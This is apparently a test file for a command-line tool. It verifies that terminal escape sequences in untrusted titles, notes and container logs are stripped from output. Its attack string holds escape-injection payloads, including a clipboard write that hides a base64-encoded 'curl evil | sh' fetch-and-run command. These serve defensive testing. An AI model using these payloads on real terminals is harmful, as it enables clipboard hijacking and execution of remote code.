import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunIncResult } from '../../helpers/run-inc.js';
import { type LeakyCluster, startLeakyCluster } from './leaky-scenario.js';

const ESC = '\u001b';
/** What an attacker writes to a log, a title or a note: clear the screen, fake colours, a clipboard write, a title. */
const ATTACK = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[32mall green${ESC}[0m`,
  `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007`,
  `${ESC}]0;owned${ESC}\\`,
  '\u009b31m',
  'over\rwrite',
].join(' ');

/** No ESC, no 8-bit CSI or OSC, no BEL, no carriage return. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
const CONTROL = /[\u001b\u009b\u009d\u0007\r]/;

let cluster: LeakyCluster;

beforeAll(async () => {
  cluster = await startLeakyCluster(`fatal: ${ATTACK} done`);
}, 60_000);

afterAll(() => cluster?.stop());

const inc = (args: string[], extraEnv?: Record<string, string>) => cluster.inc(args, extraEnv);

function expectNoControl(where: string, result: RunIncResult): void {
  expect(result.stdout, `${where}: stdout`).not.toMatch(CONTROL);
  expect(result.stderr, `${where}: stderr`).not.toMatch(CONTROL);
}

describe('untrusted text reaches the terminal without its control sequences', () => {
  it('a title with escape sequences and line breaks: one line in tables, no ESC anywhere', async () => {
    const start = await inc(['start', `checkout ${ATTACK}\nsecond line`, '-y']);
    expect(start.code, start.stderr).toBe(0);
    expectNoControl('inc start', start);
    const list = await inc(['list']);
    expectNoControl('inc list', list);
    const row = list.stdout.split('\n').find((line) => line.includes('checkout'));
    expect(row).toContain('second line');
    expect(row).toContain('all green');
    for (const args of [['status'], ['log'], ['handoff'], ['list', '-o', 'json']]) {
      expectNoControl(`inc ${args.join(' ')}`, await inc(args));
    }
  });

  it('container logs in triage output, in every format', async () => {
    for (const output of ['text', 'markdown', 'json']) {
      const result = await inc(['--kubeconfig', cluster.sim.kubeconfigPath, 'triage', '-A', '-o', output]);
      expect(result.stdout, output).toContain('all green');
      expectNoControl(`triage -o ${output}`, result);
    }
  });

  it('notes and the timeline', async () => {
    const note = await inc(['note', `see ${ATTACK}`]);
    expect(note.code, note.stderr).toBe(0);
    expectNoControl('inc note', note);
    const log = await inc(['log']);
    expect(log.stdout).toContain('see');
    expectNoControl('inc log', log);
  });

  it("keeps inc's own colours while stripping the attacker's", async () => {
    const list = await inc(['list'], { FORCE_COLOR: '1' });
    expect(list.stdout).toContain(`${ESC}[1m`);
    expect(list.stdout).not.toContain(`${ESC}]`);
    expect(list.stdout).not.toContain(`${ESC}[2J`);
    expect(list.stdout).not.toContain(`${ESC}[32m`);
  });
});
